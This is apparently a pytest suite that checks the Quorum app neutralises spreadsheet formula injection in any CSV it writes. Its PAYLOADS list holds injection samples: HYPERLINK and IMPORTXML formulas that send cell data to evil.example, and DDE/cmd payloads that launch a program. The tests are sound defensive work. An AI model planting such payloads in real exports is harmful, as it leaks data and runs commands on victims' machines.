"""Spreadsheet formula injection: every CSV the app writes neutralises cells that start with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return (``quorum.spreadsheet.safe_cell``).

Quorum writes no CSV today: exports are JSONL and JSON, the import report is plain text. This
suite finds CSV writers by reading the source of every app module (``csv.writer``,
``csv.DictWriter``, ``.to_csv(``, ``text/csv``, ``text/tab-separated-values``) and fails when a
module writes CSV without passing its cells through ``safe_cell``/``safe_row``, so the first CSV
download cannot ship unprotected."""

from __future__ import annotations

import csv
import io
import re

import pytest

from quorum.spreadsheet import FORMULA_STARTS, safe_cell, safe_row
from tests.processes import BASE_DIR
from tests.security.tally import Tally, record

APPS = ("quorum", "projects", "annotation", "qualification", "dynamic", "qc", "exports", "demo")
WRITER = re.compile(
    r"csv\.writer\(|csv\.DictWriter\(|\bDictWriter\(|\.to_csv\(|text/csv|text/tab-separated-values|\.writerows?\("
)
NEUTRALISED = re.compile(r"\bsafe_(cell|row)\(")

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1, "click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("https://evil.example/?", A2), "//a")',
    '=DDE("cmd";"/C calc";"!A0")',
    "-1",
]


def csv_writers(sources: dict[str, str]) -> dict[str, bool]:
    """Modules (name -> source) that write CSV, and whether each neutralises its cells."""
    return {name: bool(NEUTRALISED.search(text)) for name, text in sources.items() if WRITER.search(text)}


def app_sources() -> dict[str, str]:
    sources = {}
    for app in APPS:
        for path in sorted((BASE_DIR / app).rglob("*.py")):
            if "migrations" not in path.parts:
                sources[str(path.relative_to(BASE_DIR))] = path.read_text()
    for path in sorted((BASE_DIR / "templates").rglob("*.html")):
        sources[str(path.relative_to(BASE_DIR))] = path.read_text()
    return sources


def test_every_csv_the_app_writes_neutralises_formulas(request: pytest.FixtureRequest) -> None:
    sources = app_sources()
    writers = csv_writers(sources)
    tally = Tally("CSV formula injection (modules and templates read)")
    for name in sources:
        tally.check(writers.get(name, True), f"{name} writes CSV without quorum.spreadsheet.safe_cell/safe_row")
    record(request, tally)
    print(f"[security] CSV: {len(sources)} modules and templates read, {len(writers)} write CSV")
    assert len(sources) > 100
    assert tally.through == []


def test_the_scan_finds_an_unprotected_writer() -> None:
    planted = {
        "exports/report.py": "import csv\nw = csv.writer(out)\nw.writerow(row)\n",
        "qc/table.py": "frame.to_csv(path)\n",
        "exports/views.py": 'HttpResponse(body, content_type="text/csv")\n',
        "exports/safe.py": "import csv\nw = csv.writer(out)\nw.writerow(safe_row(row))\n",
        "annotation/read.py": "import csv\nreader = csv.reader(text)\n",
    }
    assert csv_writers(planted) == {
        "exports/report.py": False,
        "qc/table.py": False,
        "exports/views.py": False,
        "exports/safe.py": True,
    }


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_comes_out_of_a_csv_file_as_text(payload: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow(safe_row(["item-1", payload, 3, None, "plain text", "a=b"]))
    [row] = list(csv.reader(io.StringIO(out.getvalue())))
    assert row[1] == "'" + payload
    assert not row[1].startswith(FORMULA_STARTS)
    assert row[0] == "item-1"
    assert row[2:] == ["3", "", "plain text", "a=b"]


def test_ordinary_values_are_left_alone() -> None:
    for value in ("Question 4?", "", "3-2", "e@mail", 42, -1, 0.5, None):
        assert safe_cell(value) == value
    assert safe_cell("-1") == "'-1"  # text that a spreadsheet would read as a formula or number


def test_no_download_is_served_as_csv() -> None:
    """The app's download views declare JSON, JSONL or text, never CSV."""
    found = [p for p, text in app_sources().items() if re.search(r"content_type=.*csv", text)]
    assert found == []
